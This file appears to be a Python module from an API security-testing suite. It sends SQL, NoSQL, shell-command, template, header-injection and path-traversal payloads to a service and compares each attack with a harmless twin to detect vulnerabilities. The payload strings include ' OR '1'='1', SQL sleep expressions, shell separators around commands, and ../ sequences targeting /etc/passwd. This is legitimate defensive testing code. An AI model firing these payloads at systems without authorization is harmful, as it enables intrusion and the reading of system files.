"""Probes for injection: each attack has a harmless twin, the same syntax with another meaning.

A service that executes the attack gives different responses to the attack and to the twin. A
service that refuses both values, or treats both values as text, gives equal responses. A difference
counts only if every repetition shows the difference.
"""

import json
import re
from collections import Counter
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, replace

from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

from suites.probes.api import Call, Endpoint, Exchange, Observation, Parameter, Sender
from suites.probes.openapi import places, value_at

SEED = 4
REPEATS = 6
DELAY_SECONDS = 1.0
WORD = "zqxj"
ABSENT = 4_711_083
TOO_MANY, SERVER_ERROR = 429, 500
# A shorter pattern matches too much.
MIN_PATTERN = 3

DATABASE_ERRORS = re.compile(
    r"SQLITE|sqlite3?\.|SQL syntax|syntax error at or near|unrecognized token|"
    r"near \"[^\"\n]{0,200}\": syntax|ORA-\d{5}|PG::|psycopg|mysql|ODBC|"
    r"unterminated quoted|pymongo|MongoError|unknown "
    r"(top level )?operator|BadValue|\$(where|regex|ne|gt) ",
    re.IGNORECASE,
)


@dataclass(frozen=True, slots=True)
class Pair:
    """The value of an attack, and its harmless twin: the same syntax with the opposite meaning."""

    attack: object
    twin: object


SQL = (
    *(
        Pair(f"{WORD}{quote}{end} OR {true}", f"{WORD}{quote}{end} OR {false}")
        for end in ("", ")")
        for quote, true, false in (
            ("'", "'1'='1", "'1'='2"),
            ('"', '"1"="1', '"1"="2'),
            ("'", "1=1 -- ", "1=2 -- "),
        )
    ),
    Pair(f"{ABSENT} OR 1=1", f"{ABSENT} OR 1=2"),
    Pair(f"{WORD}%' OR '1%'='1", f"{WORD}%' OR '1%'='2"),
)
SQL_BREAKS = (Pair(f"{WORD}'", f"{WORD}''"), Pair(f'{WORD}"', f'{WORD}""'), Pair("1'", "1''"))
SQL_DELAYS = (
    "{word}' OR {sleep} OR '1'='2",
    "{word}' AND {sleep} AND '1'='1",
    "1 OR {sleep}",
    "{word}'; SELECT {sleep} -- ",
)
COUNTING = (
    "(WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM c LIMIT {}) "
    "SELECT count(*)=0 FROM c)"
)
SLEEPS = (
    ("SLEEP(1)", "SLEEP(0)"),
    ("(SELECT 1 FROM pg_sleep(1))", "(SELECT 1 FROM pg_sleep(0))"),
    # SQLite has no sleep function; counting to a large number takes as long.
    (COUNTING.format(9_000_000), COUNTING.format(9)),
)
SHELL = (
    "; {command}",
    "| {command}",
    "$({command})",
    "`{command}`",
    "& {command} &",
    "' ; {command} ; '",
)
CALCULATION = "expr 7411 \\* 1097"
PRODUCT, FACTORS = "8129867", (7411, 1097)
TEMPLATES = (
    "{{{{{0}*{1}}}}}",
    "${{{0}*{1}}}",
    "#{{{0}*{1}}}",
    "<%= {0}*{1} %>",
    "{{{{= {0}*{1} }}}}",
    "{{% print({0}*{1}) %}}",
)
BARE = "7411*1097"
HEADER = "x-kirana-probe"
BREAKS = ("\r\n", "\n", "\u560d\u560a")
PASSWD = re.compile(r"\broot:[^:\s]*:0:0:")
CLIMBS = (
    "../" * 8 + "{file}",
    "..%2f" * 8 + "{file}",
    "%2e%2e/" * 8 + "{file}",
    "/{file}",
    "....//" * 8 + "{file}",
    "..%252f" * 8 + "{file}",
)


def nosql_pairs() -> tuple[Pair, ...]:
    """Make pairs of NoSQL operators: the attack matches every value, and the twin matches none."""
    pairs: list[Pair] = [
        Pair({"$ne": WORD}, {"$in": []}),
        Pair({"$gt": ""}, {"$lt": ""}),
        Pair({"$regex": ".*"}, {"$regex": f"^{WORD}$"}),
        Pair({"$where": "true"}, {"$where": "false"}),
        Pair(["$ne", WORD], ["$eq", WORD]),
    ]

    @seed(SEED)
    @settings(
        max_examples=4,
        database=None,
        deadline=None,
        phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    @given(st.sampled_from(["$ne", "$nin", "$not"]), st.text("zqxj", min_size=3, max_size=8))
    def add_pair(operator: str, word: str) -> None:
        value: object = {"$ne": word, "$nin": [word], "$not": {"$eq": word}}[operator]
        pairs.append(Pair({operator: value}, {"$eq": f"{word}!"}))

    add_pair()
    return tuple(pairs)


def shape(exchange: Exchange, *payloads: object) -> tuple[int, object]:
    """Return status and structure of a response, without payloads that the response repeats."""
    try:
        content = without_echoes(json.loads(exchange.text), payloads)
    except (ValueError, RecursionError):
        text = exchange.text
        for payload in payloads:
            text = text.replace(str(payload), "")
        return exchange.status, len(text) // 40
    return exchange.status, frozenset(Counter(_paths(content, "")).items())


def without_echoes(content: object, payloads: tuple[object, ...]) -> object:
    """Replace payloads in a JSON value by None, because their repetition proves nothing."""
    if any(content == payload for payload in payloads if not isinstance(payload, bool)):
        return None
    if isinstance(content, dict):
        return {name: without_echoes(item, payloads) for name, item in content.items()}
    if isinstance(content, list):
        return [without_echoes(item, payloads) for item in content]
    return content


def _paths(value: object, path: str) -> Iterator[str]:
    if isinstance(value, dict):
        yield path
        for name, item in value.items():
            yield from _paths(item, f"{path}.{name}")
    elif isinstance(value, list):
        for item in value:
            yield from _paths(item, f"{path}[]")
    else:
        yield f"{path}:{value}" if isinstance(value, bool) else path


def pair_differs(
    sender: Sender, endpoint: Endpoint, calls: Callable[[object], Call], pair: Pair
) -> Exchange | None:
    """Compare the responses to an attack and to its twin several times.

    Args:
        sender: the sender of requests to the service.
        endpoint: the operation.
        calls: a function that makes the request with a value.
        pair: the attack and its twin.

    Returns:
        The last exchange of the attack; None if the responses do not differ in every repetition.
    """
    last = None
    for _ in range(REPEATS):
        attack = sender.send(endpoint, calls(pair.attack))
        twin = sender.send(endpoint, calls(pair.twin))
        if shape(attack, pair.attack, pair.twin) == shape(twin, pair.attack, pair.twin):
            return None
        again = sender.send(endpoint, calls(pair.twin))
        if shape(again, pair.attack, pair.twin) != shape(twin, pair.attack, pair.twin):
            return None  # two requests with the same value differ as well
        if TOO_MANY in (attack.status, twin.status, again.status):
            return None  # the rate limit hides the response
        last = attack
    return last


def nosql(sender: Sender, endpoint: Endpoint, call: Call) -> Iterator[Observation]:
    """Send NoSQL operators instead of values, in bodies, forms and queries (``name[$ne]``)."""
    for place in places(endpoint, call):
        if place.where == "path":
            continue
        for pair in (*nosql_pairs(), *_pattern_pairs(value_at(call, place))):
            if place.where == "query" and isinstance(pair.attack, list):
                continue
            attack = pair_differs(sender, endpoint, operator_calls(call, place), pair)
            if attack:
                yield _finding("nosql-injection", endpoint, place, pair.attack, attack)
                break
        else:
            yield _no_finding("nosql-injection", endpoint, place)


def _pattern_pairs(value: object) -> Iterator[Pair]:
    """Yield a pair: a pattern that matches the value, and a text that does not match the value."""
    if isinstance(value, str) and len(value) >= MIN_PATTERN:
        yield Pair(f"{value[:-1]}.", f"{value[:-1]}!")


def operator_calls(call: Call, place: Parameter) -> Callable[[object], Call]:
    """Return a function that makes requests with a value, or with an operator as ``name[$ne]``."""

    def make(value: object) -> Call:
        if place.where != "query" or not isinstance(value, dict):
            return call.with_value(place, value)
        operator, operand = next(iter(value.items()))
        query = {name: text for name, text in call.query.items() if name != place.name}
        return replace(call, query={**query, f"{place.name}[{operator}]": str(operand)})

    return make


def sql(sender: Sender, endpoint: Endpoint, call: Call) -> Iterator[Observation]:
    """Send SQL in values; a SQL error, a different response or a delayed response is a finding."""
    for place in places(endpoint, call):
        observation = _sql_at(sender, endpoint, call, place)
        yield observation or _no_finding("sql-injection", endpoint, place)


def _sql_at(sender: Sender, endpoint: Endpoint, call: Call, place: Parameter) -> Observation | None:
    for pair in SQL_BREAKS:
        broken = sender.send(endpoint, call.with_value(place, pair.attack))
        harmless = sender.send(endpoint, call.with_value(place, pair.twin))
        error_text = DATABASE_ERRORS.search(broken.text)
        if error_text and not DATABASE_ERRORS.search(harmless.text):
            return _finding("sql-injection", endpoint, place, pair.attack, broken)
        if broken.status >= SERVER_ERROR > harmless.status:
            return _finding("sql-injection", endpoint, place, pair.attack, broken)
    for pair in SQL:
        attack = pair_differs(sender, endpoint, lambda value: call.with_value(place, value), pair)
        if attack:
            return _finding("sql-injection", endpoint, place, pair.attack, attack)
    for template in SQL_DELAYS:
        for sleep, awake in SLEEPS:
            slow, quick = (template.format(word=WORD, sleep=delay) for delay in (sleep, awake))
            exchange = delayed(sender, endpoint, call, place, Pair(slow, quick))
            if exchange:
                return _finding("sql-injection", endpoint, place, slow, exchange)
    return None


def delayed(
    sender: Sender, endpoint: Endpoint, call: Call, place: Parameter, pair: Pair
) -> Exchange | None:
    """Send an attack and its harmless twin in turn; return the attack if only attacks are slow."""
    last = None
    for _ in range(REPEATS + 1):
        slow = sender.send(endpoint, call.with_value(place, pair.attack))
        if slow.seconds < DELAY_SECONDS * 0.7:
            return None
        quick = sender.send(endpoint, call.with_value(place, pair.twin))
        if quick.seconds > slow.seconds / 2:
            return None
        last = slow
    return last


def command(sender: Sender, endpoint: Endpoint, call: Call) -> Iterator[Observation]:
    """Send shell commands; a calculated result in a response, or a delay, is a finding."""
    for place in places(endpoint, call):
        observation = None
        for template in SHELL:
            sum_text = f"{WORD}{template.format(command=CALCULATION)}"
            answer = sender.send(endpoint, call.with_value(place, sum_text))
            if PRODUCT in answer.text + str(answer.headers):
                observation = _finding("command-injection", endpoint, place, sum_text, answer)
                break
            pair = Pair(
                *(
                    f"{WORD}{template.format(command=shell_command)}"
                    for shell_command in ("sleep 1", "sleep 0")
                )
            )
            exchange = delayed(sender, endpoint, call, place, pair)
            if exchange:
                observation = _finding("command-injection", endpoint, place, pair.attack, exchange)
                break
        yield observation or _no_finding("command-injection", endpoint, place)


def template(sender: Sender, endpoint: Endpoint, call: Call) -> Iterator[Observation]:
    """Send template syntax; a calculated result in the response is a finding."""
    payloads = (*(f"{WORD} {expression.format(*FACTORS)}" for expression in TEMPLATES), BARE)
    return _by_sign(
        "template-injection",
        (sender, endpoint, call),
        payloads,
        lambda exchange: PRODUCT in exchange.text,
    )


def crlf(sender: Sender, endpoint: Endpoint, call: Call) -> Iterator[Observation]:
    """Send line breaks in values; a header made from the text after a line break is a finding."""
    payloads = [f"{WORD}{line_break}{HEADER}: 1" for line_break in BREAKS]
    return _by_sign(
        "header-injection",
        (sender, endpoint, call),
        payloads,
        lambda exchange: HEADER in exchange.headers,
    )


def traversal(sender: Sender, endpoint: Endpoint, call: Call) -> Iterator[Observation]:
    """Send paths such as ``../`` as values; the content of /etc/passwd is a finding."""
    payloads = [climb.format(file="etc/passwd") for climb in CLIMBS]
    return _by_sign(
        "path-traversal",
        (sender, endpoint, call),
        payloads,
        lambda exchange: PASSWD.search(exchange.text),
    )


def _by_sign(
    rule: str,
    target: tuple[Sender, Endpoint, Call],
    payloads: Iterable[str],
    shows: Callable[[Exchange], object],
) -> Iterator[Observation]:
    """Yield, for each parameter, the first payload that the service executes, or no finding."""
    sender, endpoint, call = target
    for place in places(endpoint, call):
        answers = (
            (payload, sender.send(endpoint, call.with_value(place, payload)))
            for payload in payloads
        )
        executed = next((pair for pair in answers if shows(pair[1])), None)
        if executed:
            yield _finding(rule, endpoint, place, *executed)
        else:
            yield _no_finding(rule, endpoint, place)


def traversal_of_address(sender: Sender, prefixes: tuple[str, ...]) -> Iterator[Observation]:
    """For each path prefix, send unescaped paths that lead out of the folder of the prefix."""
    for prefix in prefixes:
        plain = Endpoint(
            f"GET {prefix}", "GET", prefix, (), None, "", secured=False, statuses=frozenset()
        )
        observation = None
        for climb in CLIMBS:
            path = f"{prefix.rstrip('/')}/{climb.format(file='etc/passwd').lstrip('/')}"
            answer = sender.send(plain, Call(raw_path=path))
            if PASSWD.search(answer.text):
                sentence = f"the response to GET {path} contains /etc/passwd"
                observation = Observation(
                    "path-traversal",
                    prefix,
                    is_finding=True,
                    sentence=sentence,
                    exchange=answer,
                )
                break
        yield observation or Observation(
            "path-traversal",
            prefix,
            is_finding=False,
            sentence=f"no sent path leads out of {prefix}",
        )


def _finding(
    rule: str, endpoint: Endpoint, place: Parameter, payload: object, exchange: Exchange
) -> Observation:
    sentence = (
        f"{endpoint.name}: the service executes {str(payload)[:120]!r} in the {place.where} "
        f"parameter {place.name}: status {exchange.status} after {exchange.seconds:.2f} s"
    )
    place_name = f"{endpoint.name} {place.name}"
    return Observation(rule, place_name, is_finding=True, sentence=sentence, exchange=exchange)


def _no_finding(rule: str, endpoint: Endpoint, place: Parameter) -> Observation:
    sentence = f"{endpoint.name}: the service treats {place.name} as text, or refuses the request"
    place_name = f"{endpoint.name} {place.name}"
    return Observation(rule, place_name, is_finding=False, sentence=sentence)


INJECTIONS = (nosql, sql, command, template, crlf, traversal)
